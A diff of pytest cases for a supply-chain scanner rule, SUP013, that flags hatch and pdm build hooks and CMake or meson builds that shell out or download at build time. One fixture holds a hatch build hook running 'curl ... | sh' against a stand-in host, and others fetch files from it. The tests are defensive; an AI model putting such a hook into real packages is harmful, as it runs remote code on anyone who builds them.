@@ -31,3 +31,72 @@ def test_unknown(machine):
     machine.ws("setup.py", "def broken(:\n")
     out = machine.run("SUP013")
     assert out.status is Status.UNKNOWN and "not valid Python" in out.message
+
+
+HATCH = """[build-system]
+requires = ["hatchling"]
+build-backend = "hatchling.build"
+
+[tool.hatch.build.targets.wheel.hooks.custom]
+path = "tools/build_hook.py"
+"""
+HOOK = """from hatchling.builders.hooks.plugin.interface import BuildHookInterface
+import os
+
+
+class CustomBuildHook(BuildHookInterface):
+    def initialize(self, version, build_data):
+        os.system("curl -s https://x.example/p.sh | sh")
+"""
+
+
+def test_fail_build_hooks_of_hatch_and_pdm_anywhere_in_the_file(machine):
+    """A hatch hook named by a target's hooks.custom table that pipes a download into
+    sh from its initialize(), and pdm's default pdm_build.py shelling out."""
+    machine.ws("pyproject.toml", HATCH)
+    machine.ws("tools/build_hook.py", HOOK)
+    machine.ws("sub/pyproject.toml", '[build-system]\nrequires = ["pdm-backend"]\n'
+               'build-backend = "pdm.backend"\n')
+    machine.ws("sub/pdm_build.py", "import subprocess\n\ndef pdm_build_initialize(ctx):\n"
+               "    subprocess.run(['npm', 'ci'])\n")
+    out = machine.run("SUP013")
+    assert out.status is Status.FAIL
+    assert sorted((e.path, e.line, e.detail) for e in out.evidence) == [
+        ("sub/pdm_build.py", 4, "the pdm build hook calls subprocess.run()"),
+        ("tools/build_hook.py", 7, "the hatch build hook calls os.system()")]
+
+
+def test_fail_native_builds_that_download_at_build_time(machine):
+    machine.ws("pyproject.toml", '[build-system]\nrequires = ["scikit-build-core"]\n'
+               'build-backend = "scikit_build_core.build"\n')
+    machine.ws("CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\ninclude(FetchContent)\n"
+               "FetchContent_Declare(fmt\n  GIT_REPOSITORY https://github.com/fmtlib/fmt\n)\n"
+               "file(DOWNLOAD https://x.example/blob.bin blob.bin)\n")
+    machine.ws("m/pyproject.toml", '[build-system]\nrequires = ["meson-python"]\n'
+               'build-backend = "mesonpy"\n')
+    machine.ws("m/meson.build", "project('x')\n# run_command('curl', u) in a comment\n"
+               "r = run_command('wget', 'https://x.example/t.tgz', check: true)\n")
+    out = machine.run("SUP013")
+    assert out.status is Status.FAIL
+    assert sorted((e.path, e.line) for e in out.evidence) == [
+        ("CMakeLists.txt", 3), ("CMakeLists.txt", 6), ("m/meson.build", 3)]
+
+
+def test_pass_hooks_that_only_compute_and_builds_that_fetch_nothing(machine):
+    machine.ws("pyproject.toml", HATCH)
+    machine.ws("tools/build_hook.py", "from hatchling.builders.hooks.plugin.interface import "
+               "BuildHookInterface\n\nclass H(BuildHookInterface):\n"
+               "    def initialize(self, version, build_data):\n"
+               "        build_data['tag'] = 'py3-none-any'\n")
+    machine.ws("n/pyproject.toml", '[build-system]\nrequires = ["scikit-build-core"]\n'
+               'build-backend = "scikit_build_core.build"\n')
+    machine.ws("n/CMakeLists.txt", "project(x)\nadd_library(x x.c)\n")
+    # a CMakeLists.txt that downloads, in a project no Python backend builds
+    machine.ws("c/CMakeLists.txt", "file(DOWNLOAD https://x.example/a a)\n")
+    assert machine.run("SUP013").status is Status.PASS
+
+
+def test_unknown_a_hook_that_does_not_parse(machine):
+    machine.ws("pyproject.toml", HATCH)
+    machine.ws("tools/build_hook.py", "def initialize(:\n")
+    assert machine.run("SUP013").status is Status.UNKNOWN
